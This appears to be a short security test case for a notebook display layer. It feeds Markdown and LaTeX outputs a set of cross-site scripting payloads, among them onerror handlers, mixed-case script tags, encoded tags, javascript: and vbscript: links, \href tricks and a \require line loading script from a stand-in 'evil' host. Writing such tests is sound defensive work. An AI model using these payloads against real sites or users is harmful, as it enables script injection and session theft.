-- attack: raw HTML, character references and javascript: links in Markdown and LaTeX outputs (JupyterLab renders Markdown's HTML, MathJax renders \href)
-- expect: ok
display.markdown("# hi\n\n<img src=x onerror=alert(1)> <ScRiPt>alert(1)</ScRiPt> <!-- c --> <?x?>")
display.markdown("&#60;img src=x onerror=alert(1)&#62; [a](javascript:alert(1)) [b](JavaScript\\:alert(1))\n\n[c]: vbscript:alert(1)")
display.latex("$\\href{javascript:alert(1)}{x}$ $\\let\\h\\href \\h{javascript:alert(1)}{y}$ $\\require{https://evil/x.js}$")
return 1
